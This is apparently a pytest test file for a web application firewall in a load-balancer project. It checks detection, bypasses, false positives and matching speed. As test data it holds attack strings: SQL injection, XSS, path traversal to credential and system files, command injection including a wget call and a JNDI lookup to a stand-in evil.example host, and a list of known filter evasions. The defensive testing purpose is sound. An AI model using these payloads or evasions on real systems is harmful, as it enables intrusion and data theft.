"""What is found, what is not (known ways round), what is found wrongly, and that looking takes linear time."""

from __future__ import annotations

import json
import time
from itertools import pairwise
from urllib.parse import quote

import msgspec
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from lbcore.l7.filters.waf import FINDING, REMEMBERED, Finding, Waf, WafOptions
from lbcore.l7.filters.waf_rules import LETTERS, NAMES, RULES, found, harmless, plain
from tests.l7.fakes import FakeExchange, request

SQL, SCRIPT, PATH, COMMAND = NAMES
ATTACKS = [
    (SQL, "1 UNION SELECT name, password FROM users"),
    (SQL, "1 union/**/all/* x */select 1,2"),
    (SQL, "1 UNION(SELECT 1)"),
    (SQL, "1e0union(select(1))"),
    (SQL, "' OR '1'='1"),
    (SQL, "' or 1=1 --"),
    (SQL, "') or ('a'='a"),
    (SQL, '" or ""="'),
    (SQL, "1 AND 1=1"),
    (SQL, "admin'--"),
    (SQL, "admin' #"),
    (SQL, "1; DROP TABLE users"),
    (SQL, "x'; exec xp_cmdshell('dir')"),
    (SQL, "1 and sleep(5)"),
    (SQL, "'; WAITFOR DELAY '0:0:5'"),
    (SQL, "1 or exists(select * from information_schema.tables)"),
    (SQL, "' or true"),
    (SCRIPT, "<script>alert(1)</script>"),
    (SCRIPT, "<ScRiPt src=//evil.example>"),
    (SCRIPT, "<img src=x onerror=alert(1)>"),
    (SCRIPT, "<svg/onload=alert`1`>"),
    (SCRIPT, '" onmouseover="x()'),
    (SCRIPT, "\" onfocus=y autofocus x=\""),
    (SCRIPT, "javascript:x()"),
    (SCRIPT, "</title><script>"),
    (SCRIPT, "'-document.cookie-'"),
    (SCRIPT, "data:text/html,x"),
    (PATH, "../../etc/passwd"),
    (PATH, "..\\..\\windows\\win.ini"),
    (PATH, "/etc/passwd"),
    (PATH, "a/../../b"),
    (PATH, "/proc/self/environ"),
    (PATH, "php://filter/convert.base64-encode/resource=index"),
    (PATH, "c:\\windows\\system.ini"),
    (COMMAND, "; cat /x"),
    (COMMAND, "| id"),
    (COMMAND, "x && wget http://evil.example/a"),
    (COMMAND, "$(whoami)"),
    (COMMAND, "`id`"),
    (COMMAND, "a;/bin/sh -c x"),
    (COMMAND, "${jndi:ldap://evil.example/a}"),
    (COMMAND, "() { :;}; echo x"),
    (COMMAND, "x|cat$IFS/x"),
]  # fmt: skip
MISSES = [
    ("nothing is compared", "1 or 2"),
    ("a string of digits compared to a column", "1 or id=id"),
    ("comments that hold code, for MySQL", "1 /*!50000union*/ /*!50000select*/ 1"),
    ("no blank at all", "1e0union{a(select(1))}"),
    ("a comment with a star in it", "union/***/select"),
    ("a string made of its characters", "char(49,32,79,82)"),
    ("a query in two parameters that the backend joins", "a=1 union&a=select 2"),
    ("names as JavaScript's own escapes", "\\u{61}lert\\x281\\x29"),
    ("handlers by another road", "top['al'+'ert'](1)"),
    ("a template of the server", "{{7*7}}"),
    ("overlong UTF-8", "%c0%ae%c0%ae%c0%afetc"),
    ("escapes of HTML", "&#x3c;script&#x3e;"),
    ("three times encoded", "%2525253cscript%2525253e"),
    ("a wildcard of the shell", ";/b??/c?t /e??/p?sswd"),
    ("a quote within a command", ";c'a't x"),
    ("a variable that is empty", ";c${x}at x"),
    ("base64", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("UTF-16", "<\0s\0c\0r\0i\0p\0t\0>\0"),
    ("a markup of one's own", "<x-y z>"),
    ("a file by its own name", "config/database.yml"),
]
WRONG = [
    (SQL, "the student union selected by union select committee"),
    (SQL, "Is it 'black' or 'white' = 'grey'?"),
    (SQL, "pages 1 and 2=3 more"),
    (SCRIPT, "How do I use the <script> tag?"),
    (SCRIPT, "what javascript: links do"),
    (SCRIPT, "please confirm (by mail)"),
    (PATH, "see ../../readme.txt"),
    (PATH, "what is in /etc/hosts ?"),
    (COMMAND, "apples; dig deep"),
]
FINE = [
    "q=O'Brien", "see ../readme.txt", "name=D'Angelo and sons", "q=rock 'n' roll", "tel=+49 (30) 1234",
    "q=tom & jerry", "a=1&b=2&id", "order by name", "select a seat from the list", "union of sets",
    "drop table tennis", "email=a.b+c@example.org", "x=1;y=2", "price<100", "if a < b and b > c", "C++ or C#",
    "q=100% cotton", "math: 2*3=6", "path=/a/b/..c/d", "v=1.2..1.3", "redirect=https://example.org/a?b=c",
    "cat videos", "the id", "time=12:30", "[1,2,3]", '{"a": "b", "color": "#fff", "flag": "--verbose", "n": [1, 2]}',
    "a=b; id=5; sh=1", "Ümläut und ß",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605",
    "curl/8.5.0", "_ga=GA1.2.1.1; session=eyJhbGciOiJIUzI1NiJ9.e30.x; theme=dark",
]  # fmt: skip


def filter(**options):
    return Waf(WafOptions(**options))


def ask(target=b"/", *lines, one=None, **more):
    exchange = FakeExchange(request(target, *lines, **more))
    return exchange.passes(one or filter()), exchange


@pytest.mark.parametrize(("rule", "attack"), ATTACKS)
def test_known_attacks_are_found_however_they_are_encoded(rule, attack):
    once = quote(attack)
    for written in (attack, once, quote(once), attack.upper() if rule != PATH else attack, quote(attack, safe="")):
        assert found(written.encode()), written
    assert found(attack.encode(), tuple(one for one in RULES if one.name == rule)) == rule
    answer, exchange = ask(b"/search?q=" + quote(attack, safe="").encode())
    assert answer.status == 403
    assert exchange.notes[FINDING].where == "query"


@pytest.mark.parametrize(("why", "attack"), MISSES)
def test_known_ways_round_are_not_found(why, attack):
    """A test that fails here is good news: move the case to ATTACKS."""
    assert found(attack.encode()) == "", why
    assert not harmless(attack.encode()) or attack.isascii()


@pytest.mark.parametrize(("rule", "text"), WRONG)
def test_known_wrong_findings(rule, text):
    """Innocent text that is refused. A test that fails here is good news: move the case to FINE."""
    assert found(text.encode()) == rule


@pytest.mark.parametrize("text", FINE)
def test_everyday_text_passes(text):
    assert found(text.encode()) == ""
    assert found(quote(text).encode()) == ""


SIGNS = [(rule.name, sign) for rule in RULES for sign in rule.signs]


@pytest.mark.parametrize(("name", "sign"), SIGNS)
@given(data=st.data())
@settings(max_examples=60, deadline=None)
def test_the_quick_looks_miss_nothing_that_a_pattern_would_find(name, sign, data):
    text = data.draw(st.from_regex(sign.pattern)).translate(LETTERS)
    assume(sign.pattern.search(text))
    assert not harmless(text)
    assert any(needle in text for needle in sign.needles)


@given(st.binary(max_size=300))
def test_the_plain_form_of_anything(text):
    assert len(plain(text)) <= len(text) + 1
    assert plain(text) == plain(text).lower()
    found(text)


PUMPS = [
    b"a", b" ", b"'", b"%", b"%25", b"<", b"<a", b"</", b"/*", b"*/", b"../", b"select ", b"union ", b"' or ", b"or 1",
    b"\\u00", b"\\", b"<a on", b"<a ona", b";", b"; ", b"`", b"$(", b"${", b"(((", b"''''", b"\" on", b"() {",
    b"select x from ", b"or 11111111 ", b"document ", b"+", b"\xa0", b"powershell ", b"cmd", b"&", b"=", b"/ \t<",
]  # fmt: skip


def cost(text):
    times = []
    for _ in range(3):
        start = time.process_time()
        found(text)
        times.append(time.process_time() - start)
    return min(times)


@given(st.lists(st.sampled_from(PUMPS), min_size=1, max_size=3), st.sampled_from([b"", b"!", b"\x00", b"x"]))
@settings(max_examples=60, deadline=None)
def test_time_grows_with_the_length_not_with_its_square(pumps, end):
    """Eight times the text may take 8 times as long, not 64 times: 20 leaves room for a machine that is busy."""
    unit = b"".join(pumps)
    times = [cost(unit * (size // len(unit)) + end) for size in (4_096, 32_768)]
    for short, long in pairwise(times):
        assert long < 20 * max(short, 0.0005)


def test_each_place_is_looked_at():
    attack = b"%3Cscript%3E"
    places = [
        (b"/a/" + attack, (), "path"),
        (b"/?" + attack, (), "query"),
        (b"/", [(b"user-agent", b"<script>")], "user-agent"),
        (b"/", [(b"referer", b"http://a/?" + attack)], "referer"),
        (b"/", [(b"cookie", b"a=1; b=" + attack)], "cookie"),
    ]
    for target, lines, where in places:
        answer, exchange = ask(target, *lines)
        assert (answer.status, exchange.notes[FINDING]) == (403, Finding(SCRIPT, where))
    assert ask(b"/", (b"x-note", b"<script>"))[0].status == 200
    assert ask(b"/", (b"x-note", b"<script>"), one=filter(headers=("X-Note",)))[0].status == 403
    assert ask(b"/", (b"cookie", b"a=<script>"), one=filter(cookies=False))[0].status == 200


BODY = b"q=%3Cscript%3E"


@pytest.mark.parametrize(
    ("kind", "body", "status"),
    [
        (b"application/x-www-form-urlencoded", BODY, 403),
        (b"application/json", json.dumps({"a": ["<script>"]}).encode(), 403),
        (b"application/json; charset=utf-8", b'{"a": "\\u003cscript\\u003E"}', 403),
        (b"application/json", b'{"a": "<script>", "a": "x"}', 403),
        (b"application/vnd.x+json", b'["<\\/script><script>"]', 403),
        (b"multipart/form-data; boundary=x", b"--x\r\ncontent-disposition: form-data; name=a\r\n\r\n<script>", 403),
        (None, BODY, 403),
        (b"image/png", b"<script>", 200),
        (b"application/json", b'{"a": 1}', 200),
    ],
)
def test_bodies(kind, body, status):
    lines = [(b"content-type", kind)] if kind else []
    one = filter(body=1000)
    assert one.body_limit == 1000
    assert ask(b"/", *lines, one=one, method=b"POST", body=body)[0].status == status
    assert ask(b"/", *lines, one=filter(), method=b"POST", body=None)[0].status == 200


@pytest.mark.parametrize(("encoded", "status"), [("refuse", 415), ("pass", 200)])
@pytest.mark.parametrize("coding", [b"gzip", b"br", b"zstd", b"identity", b"x"])
def test_a_compressed_body_is_never_opened(encoded, status, coding):
    one = filter(body=1000, encoded=encoded)
    answer, _ = ask(b"/", (b"content-encoding", coding), one=one, method=b"POST", body=BODY)
    assert answer.status == status
    assert one.counts["encoded"] == 1


def test_reports_only():
    one = filter(mode="report")
    answer, exchange = ask(b"/?q=<script>", one=one)
    assert answer.status == 200
    assert exchange.notes[FINDING] == Finding(SCRIPT, "query")
    assert one.counts[SCRIPT] == 1


def test_rules_may_be_left_out():
    one = filter(rules=(SQL,))
    assert ask(b"/?q=<script>", one=one)[0].status == 200
    assert ask(b"/?q=admin'--", one=one)[0].status == 403


def test_what_is_remembered_is_bounded_and_attacks_are_not_among_it():
    one = filter()
    for number in range(REMEMBERED + 100):
        ask(b"/?q=(%d)" % number, one=one)
    assert len(one._clean) <= REMEMBERED
    for _ in range(3):
        assert ask(b"/?q=<script>", one=one)[0].status == 403


def test_options_are_checked():
    for options in ({"rules": ("sql",)}, {"headers": ("a b",)}, {"body": -1}, {"body": 1 << 30}):
        with pytest.raises(ValueError, match="must"):
            WafOptions(**options)
    with pytest.raises(msgspec.ValidationError):
        msgspec.convert({"kind": "waf", "mode": "both"}, WafOptions)
